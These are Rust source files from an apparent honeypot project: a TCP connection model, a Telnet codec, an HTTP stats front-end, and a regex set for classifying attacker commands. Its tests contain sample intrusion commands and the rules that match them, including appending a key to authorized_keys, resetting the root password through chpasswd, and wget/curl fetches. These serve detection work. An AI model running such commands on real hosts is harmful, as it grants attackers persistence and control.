    /// past the last activity, the server closes the connection (at the
    /// exact deadline instant, as a real timer would). Returns `true` if
    /// the timeout fired.
    pub fn poll_timeout(&mut self, now: DateTime) -> bool {
        if self.state != TcpState::Established {
            return false;
        }
        let deadline = self.last_activity.plus_secs(IDLE_TIMEOUT_SECS);
        if now >= deadline {
            self.state = TcpState::Closed;
            self.closed_at = Some(deadline);
            self.close_reason = Some(CloseReason::IdleTimeout);
            true
        } else {
            false
        }
    }

    /// Current state.
    pub fn state(&self) -> TcpState {
        self.state
    }

    /// Client endpoint.
    pub fn client(&self) -> (Ipv4Addr, u16) {
        (self.client, self.client_port)
    }

    /// Server endpoint.
    pub fn server(&self) -> (Ipv4Addr, u16) {
        (self.server, self.server_port)
    }

    /// When the SYN was sent.
    pub fn opened_at(&self) -> DateTime {
        self.opened_at
    }

    /// When the handshake completed, if it did.
    pub fn established_at(&self) -> Option<DateTime> {
        self.established_at
    }

    /// When the connection closed, if it has.
    pub fn closed_at(&self) -> Option<DateTime> {
        self.closed_at
    }

    /// Why the connection closed, if it has.
    pub fn close_reason(&self) -> Option<CloseReason> {
        self.close_reason
    }

    /// Bytes sent client → server so far.
    pub fn bytes_to_server(&self) -> u64 {
        self.bytes_client_to_server
    }

    /// Bytes sent server → client so far.
    pub fn bytes_to_client(&self) -> u64 {
        self.bytes_server_to_client
    }

    /// Session duration in seconds (close − establish); `None` while open
    /// or if the handshake never completed.
    pub fn duration_secs(&self) -> Option<i64> {
        Some(self.closed_at?.secs_since(self.established_at?))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(secs: i64) -> DateTime {
        DateTime::from_unix(secs)
    }

    fn conn(now: DateTime) -> Connection {
        Connection::open(Ipv4Addr(0x01020304), 40111, Ipv4Addr(0x05060708), 22, now)
    }

    #[test]
    fn normal_lifecycle() {
        let mut c = conn(t(0));
        assert_eq!(c.state(), TcpState::SynSent);
        c.establish(t(1));
        assert_eq!(c.state(), TcpState::Established);
        c.transfer(t(2), 100, 50);
        c.transfer(t(3), 20, 10);
        c.close(t(4));
        assert_eq!(c.state(), TcpState::Closed);
        assert_eq!(c.close_reason(), Some(CloseReason::ClientClose));
        assert_eq!(c.duration_secs(), Some(3));
        assert_eq!(c.bytes_to_server(), 120);
        assert_eq!(c.bytes_to_client(), 60);
    }

    #[test]
    fn scan_without_handshake() {
        let mut c = conn(t(0));
        c.abandon(t(5));
        assert_eq!(c.close_reason(), Some(CloseReason::HandshakeFailed));
        assert_eq!(c.duration_secs(), None);
    }

    #[test]
    fn idle_timeout_fires_at_exact_deadline() {
        let mut c = conn(t(0));
        c.establish(t(0));
        c.transfer(t(10), 1, 1);
        assert!(!c.poll_timeout(t(10 + IDLE_TIMEOUT_SECS - 1)));
        assert!(c.poll_timeout(t(10 + IDLE_TIMEOUT_SECS)));
        assert_eq!(c.close_reason(), Some(CloseReason::IdleTimeout));
        // Closed at the deadline, not at the (possibly later) poll instant.
        assert_eq!(c.closed_at(), Some(t(10 + IDLE_TIMEOUT_SECS)));
        assert_eq!(c.duration_secs(), Some(10 + IDLE_TIMEOUT_SECS));
    }

    #[test]
    fn activity_refreshes_idle_timer() {
        let mut c = conn(t(0));
        c.establish(t(0));
        c.transfer(t(100), 1, 1);
        assert!(!c.poll_timeout(t(150)));
        c.transfer(t(170), 1, 1);
        assert!(!c.poll_timeout(t(280)));
        assert!(c.poll_timeout(t(170 + IDLE_TIMEOUT_SECS)));
    }

    #[test]
    fn timeout_is_inert_after_close() {
        let mut c = conn(t(0));
        c.establish(t(0));
        c.close(t(1));
        assert!(!c.poll_timeout(t(10_000)));
        assert_eq!(c.close_reason(), Some(CloseReason::ClientClose));
    }

    #[test]
    #[should_panic(expected = "establish() on")]
    fn double_establish_is_a_bug() {
        let mut c = conn(t(0));
        c.establish(t(0));
        c.establish(t(1));
    }

    #[test]
    #[should_panic(expected = "transfer() on")]
    fn transfer_before_handshake_is_a_bug() {
        let mut c = conn(t(0));
        c.transfer(t(1), 1, 1);
    }
}
