//! Multi-pattern matching with a shared literal prefilter.
//!
//! [`RegexSet`] compiles many patterns together and answers "which pattern
//! matches first?" without running every backtracking VM. At build time it
//! extracts each pattern's required literals ([`required_literals`]) and
//! folds the deduplicated literal table into one [`AhoCorasick`] automaton.
//! A query then runs a single automaton pass over the haystack to learn
//! which literals occur; a pattern becomes a *candidate* only when **all**
//! of its required literals were seen. Patterns with no extractable
//! literal (alternation tops such as `wget|curl`, pure class patterns)
//! stay on an always-check fallback list.
//!
//! Candidates are verified with the full backtracking engine **in pattern
//! order**, and the first verified match wins — exactly the semantics of
//! the naive first-match loop, which is what Table 1 rule precedence
//! requires.

use crate::prefilter::{required_literals, AhoCorasick};
use crate::{ParseError, Regex};
use std::collections::HashMap;

/// A set of patterns sharing one literal-prefilter automaton.
#[derive(Debug, Clone)]
pub struct RegexSet {
    regexes: Vec<Regex>,
    ac: AhoCorasick,
    /// The deduplicated literal table backing the automaton.
    lits: Vec<Vec<u8>>,
    /// Per pattern: ids into the deduped literal table that must **all**
    /// be present in the haystack for the pattern to be a candidate.
    /// Empty ⇒ the pattern is always checked.
    requires: Vec<Vec<u32>>,
}

impl RegexSet {
    /// Parses and compiles every pattern, extracting required literals and
    /// building the shared automaton. Each pattern is parsed exactly once;
    /// the AST feeds both the compiler and the literal extractor.
    pub fn new<I, S>(patterns: I) -> Result<Self, ParseError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut regexes = Vec::new();
        let mut requires = Vec::new();
        let mut lit_ids: HashMap<Vec<u8>, u32> = HashMap::new();
        let mut lits: Vec<Vec<u8>> = Vec::new();
        for pat in patterns {
            let pat = pat.as_ref();
            let ast = crate::parser::parse(pat)?;
            let mut req = Vec::new();
            for lit in required_literals(&ast) {
                let next_id = lits.len() as u32;
                let id = *lit_ids.entry(lit.clone()).or_insert_with(|| {
                    lits.push(lit);
                    next_id
                });
                req.push(id);
            }
            req.sort_unstable();
            req.dedup();
            regexes.push(Regex::from_parsed(pat, &ast));
            requires.push(req);
        }
        Ok(Self {
            regexes,
            ac: AhoCorasick::new(&lits),
            lits,
            requires,
        })
    }

    /// Number of patterns in the set.
    pub fn len(&self) -> usize {
        self.regexes.len()
    }

    /// True when the set holds no patterns.
    pub fn is_empty(&self) -> bool {
        self.regexes.is_empty()
    }

    /// The compiled patterns, in insertion order.
    pub fn regexes(&self) -> &[Regex] {
        &self.regexes
    }

    /// The deduplicated required-literal table feeding the automaton.
    /// Mostly a diagnostic; tests use it to build worst-case haystacks
    /// that contain every literal.
    pub fn literals(&self) -> &[Vec<u8>] {
        &self.lits
    }

    /// Patterns that carry at least one required literal (skippable by the
    /// prefilter).
    pub fn prefiltered_count(&self) -> usize {
        self.requires.iter().filter(|r| !r.is_empty()).count()
    }

    /// Patterns on the always-check fallback list (no extractable
    /// literal).
    pub fn fallback_count(&self) -> usize {
        self.len() - self.prefiltered_count()
    }

    /// Index of the first pattern (in insertion order) that matches
    /// `haystack`, or `None`. Semantically identical to running
    /// [`Regex::is_match`] over the patterns in order and returning the
    /// first hit; the prefilter only skips patterns that provably cannot
    /// match.
    pub fn first_match(&self, haystack: &str) -> Option<usize> {
        let candidates = self.candidates(haystack);
        (0..self.regexes.len()).find(|&i| candidates[i] && self.regexes[i].is_match(haystack))
    }

    /// The candidate mask for `haystack`: `mask[i]` is `false` only when
    /// pattern `i` provably cannot match (a required literal is absent).
    /// One automaton pass over the haystack, regardless of pattern count.
    pub fn candidates(&self, haystack: &str) -> Vec<bool> {
        let mut lit_hits = vec![false; self.lits.len()];
        self.ac.scan(haystack.as_bytes(), &mut lit_hits);
        self.requires
            .iter()
            .map(|req| req.iter().all(|&id| lit_hits[id as usize]))
            .collect()
    }

    /// Total budget exhaustions across all patterns in the set (see
    /// [`Regex::budget_exhaustions`]).
    pub fn budget_exhaustions(&self) -> u64 {
        self.regexes.iter().map(Regex::budget_exhaustions).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn naive_first_match(set: &RegexSet, haystack: &str) -> Option<usize> {
        set.regexes().iter().position(|re| re.is_match(haystack))
    }

    #[test]
    fn first_match_respects_pattern_order() {
        let set = RegexSet::new(["mdrfckr", "wget", r"(?=.*wget)(?=.*curl)"]).unwrap();
        // Both "wget" (index 1) and the conjunction (index 2) match; the
        // earlier pattern wins.
        assert_eq!(set.first_match("wget x; curl y"), Some(1));
        assert_eq!(set.first_match("mdrfckr; wget; curl"), Some(0));
        assert_eq!(set.first_match("nothing here"), None);
    }

    #[test]
    fn fallback_rules_are_always_candidates() {
        let set = RegexSet::new(["wget|curl", "mdrfckr"]).unwrap();
        assert_eq!(set.fallback_count(), 1); // the alternation
        assert_eq!(set.prefiltered_count(), 1);
        // `curl` shares no literal with the automaton's `mdrfckr`, but the
        // alternation must still be checked and match.
        assert_eq!(set.first_match("curl http://x"), Some(0));
        let cands = set.candidates("curl http://x");
        assert!(cands[0]);
        assert!(!cands[1]);
    }

    #[test]
    fn candidate_mask_requires_all_literals() {
        let set = RegexSet::new([r"(?=.*curl)(?=.*wget)"]).unwrap();
        assert!(!set.candidates("curl only")[0]);
        assert!(!set.candidates("wget only")[0]);
        assert!(set.candidates("wget and curl")[0]);
    }

    #[test]
    fn shared_literals_are_deduped() {
        let set = RegexSet::new([r"wget\s+http", r"wget\s+ftp"]).unwrap();
        // "wget" appears once in the table; both rules require it.
        assert_eq!(set.literals().len(), 3); // wget, http, ftp
    }

    #[test]
    fn equivalent_to_naive_loop_on_mixed_corpus() {
        let set = RegexSet::new([
            "mdrfckr",
            r"/bin/busybox\s|busybox\s",
            r"uname\s+-s\s+-v",
            r"(?=.*curl)(?=.*wget)",
            r"root:[A-Za-z0-9]{15,}\|chpasswd",
            r"\becho\b",
        ])
        .unwrap();
        let corpus = [
            "echo mdrfckr >> ~/.ssh/authorized_keys",
            "/bin/busybox cat /proc/self/exe",
            "busybox wget http://x",
            "uname -s -v -n",
            "wget a; curl b",
            "echo root:Ab0Cd1Ef2Gh3Jk4X|chpasswd",
            "echo ok",
            "",
            "total miss",
            "wget only",
        ];
        for cmd in corpus {
            assert_eq!(
                set.first_match(cmd),
                naive_first_match(&set, cmd),
                "divergence on {cmd:?}"
            );
        }
    }

    #[test]
    fn empty_set() {
        let set = RegexSet::new(Vec::<String>::new()).unwrap();
        assert!(set.is_empty());
        assert_eq!(set.first_match("anything"), None);
    }

    #[test]
    fn parse_error_propagates() {
        assert!(RegexSet::new(["ok", "(broken"]).is_err());
    }
}
