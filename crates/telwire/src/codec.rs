//! IAC framing (RFC 854): separating Telnet commands from data bytes.

use crate::TelnetError;

/// Interpret As Command.
pub const IAC: u8 = 255;
/// Option negotiation verbs.
pub const WILL: u8 = 251;
/// See [`WILL`].
pub const WONT: u8 = 252;
/// See [`WILL`].
pub const DO: u8 = 253;
/// See [`WILL`].
pub const DONT: u8 = 254;
/// Subnegotiation begin/end.
pub const SB: u8 = 250;
/// See [`SB`].
pub const SE: u8 = 240;

/// Option codes the honeynet dialogue uses.
pub mod opt {
    /// RFC 857 — server echoes input.
    pub const ECHO: u8 = 1;
    /// RFC 858 — suppress go-ahead (character mode).
    pub const SGA: u8 = 3;
    /// RFC 1091 — terminal type.
    pub const TTYPE: u8 = 24;
    /// RFC 1073 — window size.
    pub const NAWS: u8 = 31;
}

/// A parsed unit of the Telnet stream.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Event {
    /// Plain data bytes (IAC-unescaped).
    Data(Vec<u8>),
    /// `IAC WILL/WONT/DO/DONT <option>`.
    Negotiate {
        /// The verb (one of WILL/WONT/DO/DONT).
        verb: u8,
        /// The option code.
        option: u8,
    },
    /// `IAC SB <option> … IAC SE`.
    Subnegotiation {
        /// The option code.
        option: u8,
        /// Raw payload between SB and SE.
        payload: Vec<u8>,
    },
    /// Any other two-byte IAC command (NOP, AYT, …).
    Command(u8),
}

/// Incremental IAC parser. Feed bytes, drain events.
#[derive(Debug, Default)]
pub struct TelnetCodec {
    buf: Vec<u8>,
}

impl TelnetCodec {
    /// New, empty codec.
    pub fn new() -> Self {
        Self::default()
    }

    /// Appends raw bytes from the wire.
    pub fn input(&mut self, data: &[u8]) {
        self.buf.extend_from_slice(data);
    }

    /// Extracts as many complete events as possible. Data bytes are
    /// coalesced into one `Data` event per call segment.
    pub fn drain(&mut self) -> Result<Vec<Event>, TelnetError> {
        let mut events = Vec::new();
        let mut data = Vec::new();
        let mut i = 0;
        let buf = std::mem::take(&mut self.buf);
        while i < buf.len() {
            let b = buf[i];
            if b != IAC {
                data.push(b);
                i += 1;
                continue;
            }
            // An IAC at the very end may be a partial command: stash it.
            let Some(&next) = buf.get(i + 1) else {
                self.buf = buf[i..].to_vec();
                break;
            };
            match next {
                IAC => {
                    // Escaped 255 data byte.
                    data.push(IAC);
                    i += 2;
                }
                WILL | WONT | DO | DONT => {
                    let Some(&option) = buf.get(i + 2) else {
                        self.buf = buf[i..].to_vec();
                        break;
                    };
                    flush_data(&mut events, &mut data);
                    events.push(Event::Negotiate { verb: next, option });
                    i += 3;
                }
                SB => {
                    // Scan for IAC SE.
                    let Some(&option) = buf.get(i + 2) else {
                        self.buf = buf[i..].to_vec();
                        break;
                    };
                    let mut j = i + 3;
                    let mut payload = Vec::new();
                    let mut terminated = false;
                    while j < buf.len() {
                        if buf[j] == IAC {
                            match buf.get(j + 1) {
                                Some(&SE) => {
                                    terminated = true;
                                    j += 2;
                                    break;
                                }
                                Some(&IAC) => {
                                    payload.push(IAC);
                                    j += 2;
                                }
                                Some(_) => {
                                    return Err(TelnetError::Protocol(
                                        "bad byte inside subnegotiation".into(),
                                    ))
                                }
                                None => break,
                            }
                        } else {
                            payload.push(buf[j]);
                            j += 1;
                        }
                    }
                    if !terminated {
                        self.buf = buf[i..].to_vec();
                        break;
                    }
                    flush_data(&mut events, &mut data);
                    events.push(Event::Subnegotiation { option, payload });
                    i = j;
                }
                cmd => {
                    flush_data(&mut events, &mut data);
                    events.push(Event::Command(cmd));
                    i += 2;
                }
            }
        }
        flush_data(&mut events, &mut data);
        Ok(events)
    }
}

fn flush_data(events: &mut Vec<Event>, data: &mut Vec<u8>) {
    if !data.is_empty() {
        events.push(Event::Data(std::mem::take(data)));
    }
}

/// Encodes data bytes for the wire, escaping 255.
pub fn escape_data(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(data.len());
    for &b in data {
        out.push(b);
        if b == IAC {
            out.push(IAC);
        }
    }
    out
}

/// Encodes `IAC <verb> <option>`.
pub fn negotiate(verb: u8, option: u8) -> [u8; 3] {
    [IAC, verb, option]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_data_passes_through() {
        let mut c = TelnetCodec::new();
        c.input(b"root\r\n");
        assert_eq!(c.drain().unwrap(), vec![Event::Data(b"root\r\n".to_vec())]);
    }

    #[test]
    fn negotiation_parsing() {
        let mut c = TelnetCodec::new();
        c.input(&[IAC, WILL, opt::ECHO, b'h', b'i', IAC, DO, opt::SGA]);
        assert_eq!(
            c.drain().unwrap(),
            vec![
                Event::Negotiate {
                    verb: WILL,
                    option: opt::ECHO
                },
                Event::Data(b"hi".to_vec()),
                Event::Negotiate {
                    verb: DO,
                    option: opt::SGA
                },
            ]
        );
    }

    #[test]
    fn escaped_255_is_data() {
        let mut c = TelnetCodec::new();
        c.input(&[b'a', IAC, IAC, b'b']);
        assert_eq!(c.drain().unwrap(), vec![Event::Data(vec![b'a', 255, b'b'])]);
    }

    #[test]
    fn partial_iac_waits_for_more() {
        let mut c = TelnetCodec::new();
        c.input(&[b'x', IAC]);
        assert_eq!(c.drain().unwrap(), vec![Event::Data(b"x".to_vec())]);
        c.input(&[WILL]);
        assert_eq!(c.drain().unwrap(), vec![]);
        c.input(&[opt::ECHO]);
        assert_eq!(
            c.drain().unwrap(),
            vec![Event::Negotiate {
                verb: WILL,
                option: opt::ECHO
            }]
        );
    }

    #[test]
    fn subnegotiation_roundtrip() {
        let mut c = TelnetCodec::new();
        c.input(&[IAC, SB, opt::TTYPE, 0, b'x', b't', IAC, SE, b'!']);
        assert_eq!(
            c.drain().unwrap(),
            vec![
                Event::Subnegotiation {
                    option: opt::TTYPE,
                    payload: vec![0, b'x', b't']
                },
                Event::Data(b"!".to_vec()),
            ]
        );
    }

    #[test]
    fn unterminated_subnegotiation_is_buffered() {
        let mut c = TelnetCodec::new();
        c.input(&[IAC, SB, opt::NAWS, 0, 80]);
        assert_eq!(c.drain().unwrap(), vec![]);
        c.input(&[0, 24, IAC, SE]);
        assert_eq!(
            c.drain().unwrap(),
            vec![Event::Subnegotiation {
                option: opt::NAWS,
                payload: vec![0, 80, 0, 24]
            }]
        );
    }

    #[test]
    fn bare_command() {
        let mut c = TelnetCodec::new();
        c.input(&[IAC, 241]); // NOP
        assert_eq!(c.drain().unwrap(), vec![Event::Command(241)]);
    }

    #[test]
    fn escape_data_roundtrips() {
        let data = vec![1u8, 255, 2, 255, 255, 3];
        let mut c = TelnetCodec::new();
        c.input(&escape_data(&data));
        assert_eq!(c.drain().unwrap(), vec![Event::Data(data)]);
    }
}
