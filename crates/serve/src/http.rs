//! The HTTP/1.1 observability front-end (`--http-port`).
//!
//! Same architecture as the SSH/Telnet front: one non-blocking accept
//! thread deals admitted sockets round-robin to a small pool of worker
//! shards; each shard owns its connections outright and polls them with
//! non-blocking reads/writes. No HTTP library — the parser below speaks
//! exactly the subset this plane serves (`GET`, header block, optional
//! keep-alive/pipelining) and rejects everything else with a bounded
//! buffer, which is the only defensible posture for a socket that sits
//! on the same host as a honeypot.
//!
//! # Endpoints (all `honeylab-api v1` documents)
//!
//! | path                    | kind              |
//! |-------------------------|-------------------|
//! | `GET /api/stats`        | `stats`           |
//! | `GET /api/sessions/recent` | `sessions_recent` |
//! | `GET /api/credentials/top` | `credentials_top` |
//! | `GET /api/health`       | `health`          |
//! | `GET /events`           | SSE stream of `session` / `recovery` events |
//! | `GET /`                 | `index`           |
//!
//! # Isolation contract
//!
//! Handlers render from the [`ApiSnapshot`] most recently published by
//! the aggregator — acquired through the lock-free
//! [`crate::broadcast::SnapshotCell`] — and never touch accumulators,
//! serving threads, or any lock an accept path could contend on. A
//! stalled dashboard client therefore costs the honeypot nothing but
//! one fd and one queue.

use crate::broadcast::{EventBus, SnapshotCell, Subscription};
use crate::stats::ApiSnapshot;
use crate::{sse, ServeError};
use hutil::{api_envelope, Json};
use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::{Receiver, Sender, TryRecvError};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Hard cap on one request head (request line + headers). Anything
/// larger is answered `431` and the connection closed.
pub const MAX_REQUEST_BYTES: usize = 8 * 1024;

/// Concurrent HTTP connections; beyond this, accepts are shed at the
/// door exactly like the honeypot listeners shed.
pub const MAX_HTTP_CONNECTIONS: usize = 1024;

/// Idle timeout for request/keep-alive connections (SSE streams are
/// exempt — they idle by design and carry keep-alive comments instead).
const HTTP_IDLE_TIMEOUT: Duration = Duration::from_secs(30);

/// Comment-frame cadence on an idle SSE stream.
const SSE_KEEPALIVE: Duration = Duration::from_secs(15);

// --- request parsing -----------------------------------------------------

/// One parsed request head.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    /// Request method, as sent.
    pub method: String,
    /// Request target (path + optional query).
    pub target: String,
    /// `true` unless the client asked for `Connection: close` (or spoke
    /// HTTP/1.0 without `keep-alive`).
    pub keep_alive: bool,
}

/// Why a request could not be parsed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ParseError {
    /// The head exceeded [`MAX_REQUEST_BYTES`] without terminating.
    TooLarge,
    /// The bytes are not an HTTP/1.x request head.
    Malformed,
}

/// Incremental request-head parser with a bounded buffer. Feed chunks
/// with [`RequestParser::push`], then drain complete requests with
/// [`RequestParser::next_request`] — pipelined requests in one chunk
/// come out one at a time, torn requests wait for their remaining
/// bytes.
#[derive(Debug, Default)]
pub struct RequestParser {
    buf: Vec<u8>,
}

impl RequestParser {
    /// An empty parser.
    pub fn new() -> Self {
        Self::default()
    }

    /// Buffers a chunk.
    pub fn push(&mut self, chunk: &[u8]) {
        self.buf.extend_from_slice(chunk);
    }

    /// Takes the next complete request head, if the buffer holds one.
    pub fn next_request(&mut self) -> Result<Option<Request>, ParseError> {
        let Some(head_len) = find_head_end(&self.buf) else {
            if self.buf.len() > MAX_REQUEST_BYTES {
                return Err(ParseError::TooLarge);
            }
            return Ok(None);
        };
        if head_len > MAX_REQUEST_BYTES {
            return Err(ParseError::TooLarge);
        }
        let head: Vec<u8> = self.buf.drain(..head_len).collect();
        let text = std::str::from_utf8(&head).map_err(|_| ParseError::Malformed)?;
        parse_head(text).map(Some)
    }
}

/// Finds the end of the head (`\r\n\r\n`, tolerating bare `\n\n`),
/// returning its length including the terminator.
fn find_head_end(buf: &[u8]) -> Option<usize> {
    let mut i = 0;
    while i < buf.len() {
        if buf[i] == b'\n' {
            if i + 1 < buf.len() && buf[i + 1] == b'\n' {
                return Some(i + 2);
            }
            if i + 2 < buf.len() && buf[i + 1] == b'\r' && buf[i + 2] == b'\n' {
                return Some(i + 3);
            }
        }
        i += 1;
    }
    None
}

fn parse_head(text: &str) -> Result<Request, ParseError> {
    let mut lines = text.lines();
    let request_line = lines.next().ok_or(ParseError::Malformed)?;
    let mut parts = request_line.split(' ').filter(|p| !p.is_empty());
    let method = parts.next().ok_or(ParseError::Malformed)?;
    let target = parts.next().ok_or(ParseError::Malformed)?;
    let version = parts.next().ok_or(ParseError::Malformed)?;
    if parts.next().is_some() || !target.starts_with('/') {
        return Err(ParseError::Malformed);
    }
    let http11 = match version {
        "HTTP/1.1" => true,
        "HTTP/1.0" => false,
        _ => return Err(ParseError::Malformed),
    };
    let mut keep_alive = http11;
    for line in lines {
        if line.is_empty() {
            break;
        }
        let Some((name, value)) = line.split_once(':') else {
            return Err(ParseError::Malformed);
        };
        if name.eq_ignore_ascii_case("connection") {
            let v = value.trim();
            if v.eq_ignore_ascii_case("close") {
                keep_alive = false;
            } else if v.eq_ignore_ascii_case("keep-alive") {
                keep_alive = true;
            }
        }
        // A GET head carries no body; Content-Length/TE are ignored
        // (non-GET methods are rejected at routing with 405 and the
        // connection closed, so a smuggled body can never desync).
    }
    Ok(Request {
        method: method.to_string(),
        target: target.to_string(),
        keep_alive,
    })
}

// --- responses -----------------------------------------------------------

fn status_reason(status: u16) -> &'static str {
    match status {
        200 => "OK",
        400 => "Bad Request",
        404 => "Not Found",
        405 => "Method Not Allowed",
        431 => "Request Header Fields Too Large",
        _ => "Error",
    }
}

/// Serialises one JSON response (pretty-rendered body, explicit length).
pub fn json_response(status: u16, doc: &Json, keep_alive: bool) -> Vec<u8> {
    let body = doc.pretty();
    let head = format!(
        "HTTP/1.1 {} {}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nAccess-Control-Allow-Origin: *\r\nConnection: {}\r\n\r\n",
        status,
        status_reason(status),
        body.len(),
        if keep_alive { "keep-alive" } else { "close" },
    );
    let mut out = head.into_bytes();
    out.extend_from_slice(body.as_bytes());
    out
}

/// The v1 error document (envelope kind `"error"`).
pub fn error_json(status: u16, message: &str) -> Json {
    api_envelope(
        "error",
        Json::obj([
            ("status", Json::u64(u64::from(status))),
            ("message", Json::str(message)),
        ]),
    )
}

/// The `GET /` endpoint listing (envelope kind `"index"`).
pub fn index_json() -> Json {
    api_envelope(
        "index",
        Json::obj([(
            "endpoints",
            Json::arr(
                [
                    "/api/stats",
                    "/api/sessions/recent",
                    "/api/credentials/top",
                    "/api/health",
                    "/events",
                ]
                .into_iter()
                .map(Json::str),
            ),
        )]),
    )
}

/// What routing decided to do with one request.
enum Routed {
    /// Plain JSON response.
    Json { status: u16, doc: Json },
    /// Upgrade this connection to an SSE stream.
    EventStream,
}

/// Routes one request against the current snapshot.
fn route(req: &Request, snap: &ApiSnapshot) -> Routed {
    if !req.method.eq_ignore_ascii_case("GET") {
        return Routed::Json {
            status: 405,
            doc: error_json(405, "only GET is served"),
        };
    }
    let path = req.target.split('?').next().unwrap_or("/");
    let doc = match path {
        "/" => index_json(),
        "/api/stats" => snap.stats_json(),
        "/api/sessions/recent" => snap.recent_json(),
        "/api/credentials/top" => snap.credentials_json(),
        "/api/health" => snap.health_json(),
        "/events" => return Routed::EventStream,
        _ => {
            return Routed::Json {
                status: 404,
                doc: error_json(404, "unknown endpoint"),
            }
        }
    };
    Routed::Json { status: 200, doc }
}

// --- the connection pump -------------------------------------------------

enum Mode {
    /// Parsing requests / writing responses.
    Request,
    /// Streaming SSE frames from a subscription.
    Events(Subscription),
    /// Flush the write buffer, then close.
    Closing,
}

struct HttpConn {
    stream: TcpStream,
    parser: RequestParser,
    out: Vec<u8>,
    out_pos: usize,
    mode: Mode,
    last_activity: Instant,
    last_sse_write: Instant,
}

impl HttpConn {
    fn new(stream: TcpStream) -> Self {
        Self {
            stream,
            parser: RequestParser::new(),
            out: Vec::new(),
            out_pos: 0,
            mode: Mode::Request,
            last_activity: Instant::now(),
            last_sse_write: Instant::now(),
        }
    }

    fn queue(&mut self, bytes: &[u8]) {
        if self.out_pos == self.out.len() {
            self.out.clear();
            self.out_pos = 0;
        }
        self.out.extend_from_slice(bytes);
    }

    /// Pushes buffered output to the socket. `Ok(true)` if fully
    /// flushed.
    fn flush(&mut self) -> std::io::Result<bool> {
        while self.out_pos < self.out.len() {
            match self.stream.write(&self.out[self.out_pos..]) {
                Ok(0) => return Err(ErrorKind::WriteZero.into()),
                Ok(n) => {
                    self.out_pos += n;
                    self.last_activity = Instant::now();
                }
                Err(e) if e.kind() == ErrorKind::WouldBlock => return Ok(false),
                Err(e) if e.kind() == ErrorKind::Interrupted => continue,
                Err(e) => return Err(e),
            }
        }
        Ok(true)
    }

    /// One poll round. `true` = finished, remove the connection.
    fn pump(&mut self, cell: &SnapshotCell<ApiSnapshot>, bus: &EventBus, draining: bool) -> bool {
        // Write side first: drain whatever is queued.
        let flushed = match self.flush() {
            Ok(f) => f,
            Err(_) => return true,
        };
        match &self.mode {
            Mode::Closing => return flushed,
            Mode::Events(_) if draining => {
                // Shutdown: SSE streams end now (flushed or not — the
                // subscriber will reconnect against the next process).
                return true;
            }
            _ => {}
        }

        // Read side.
        let mut buf = [0u8; 4096];
        loop {
            match self.stream.read(&mut buf) {
                Ok(0) => return true, // peer closed
                Ok(n) => {
                    self.last_activity = Instant::now();
                    if matches!(self.mode, Mode::Request) {
                        self.parser.push(&buf[..n]);
                    }
                    // Bytes on an SSE stream are ignored (clients send
                    // nothing after the request).
                }
                Err(e) if e.kind() == ErrorKind::WouldBlock => break,
                Err(e) if e.kind() == ErrorKind::Interrupted => continue,
                Err(_) => return true,
            }
        }

        // Serve parsed requests.
        while matches!(self.mode, Mode::Request) {
            match self.parser.next_request() {
                Ok(None) => break,
                Ok(Some(req)) => {
                    let snap = cell.load();
                    match route(&req, &snap) {
                        Routed::Json { status, doc } => {
                            let keep = req.keep_alive && status == 200;
                            let resp = json_response(status, &doc, keep);
                            self.queue(&resp);
                            if !keep {
                                self.mode = Mode::Closing;
                            }
                        }
                        Routed::EventStream => {
                            self.queue(
                                b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nCache-Control: no-cache\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n",
                            );
                            self.queue(sse::keep_alive().as_bytes());
                            self.mode = Mode::Events(bus.subscribe());
                            self.last_sse_write = Instant::now();
                        }
                    }
                }
                Err(err) => {
                    let (status, msg) = match err {
                        ParseError::TooLarge => (431, "request head too large"),
                        ParseError::Malformed => (400, "malformed request"),
                    };
                    let resp = json_response(status, &error_json(status, msg), false);
                    self.queue(&resp);
                    self.mode = Mode::Closing;
                }
            }
        }

        // Shutdown: answer what was already parsed, then close rather
        // than idling a keep-alive connection through the drain window.
        if draining && matches!(self.mode, Mode::Request) {
            self.mode = Mode::Closing;
        }

        // SSE: move queued frames from the subscription to the socket.
        if let Mode::Events(sub) = &self.mode {
            let mut wrote = false;
            let mut frames = Vec::new();
            while let Some(frame) = sub.try_next() {
                frames.push(frame);
            }
            for frame in frames {
                self.queue(frame.as_bytes());
                wrote = true;
            }
            if !wrote && self.last_sse_write.elapsed() >= SSE_KEEPALIVE {
                self.queue(sse::keep_alive().as_bytes());
                wrote = true;
            }
            if wrote {
                self.last_sse_write = Instant::now();
            }
            if self.flush().is_err() {
                return true;
            }
            return false; // SSE streams have no idle timeout
        }

        let _ = self.flush();
        if matches!(self.mode, Mode::Closing) && self.out_pos == self.out.len() {
            return true;
        }
        self.last_activity.elapsed() >= HTTP_IDLE_TIMEOUT
    }
}

// --- plane orchestration -------------------------------------------------

/// A running HTTP plane: the bound address plus its threads.
pub struct HttpHandle {
    /// Bound listener address (ephemeral port resolved).
    pub addr: SocketAddr,
    accept_thread: JoinHandle<()>,
    workers: Vec<JoinHandle<()>>,
}

impl HttpHandle {
    /// Waits for the accept loop and every worker to exit; returns the
    /// name of the first panicked thread, if any.
    pub fn join(self) -> Result<(), (String, String)> {
        let mut failure = None;
        let mut note = |name: &str, r: std::thread::Result<()>| {
            if let Err(p) = r {
                if failure.is_none() {
                    failure = Some((name.to_string(), honeypot::panic_message(p.as_ref())));
                }
            }
        };
        note("http-accept", self.accept_thread.join());
        for (i, w) in self.workers.into_iter().enumerate() {
            note(&format!("http-worker-{i}"), w.join());
        }
        match failure {
            None => Ok(()),
            Some(f) => Err(f),
        }
    }
}

/// Binds the HTTP listener and spawns its accept + worker threads.
pub fn start(
    bind: IpAddr,
    port: u16,
    workers: usize,
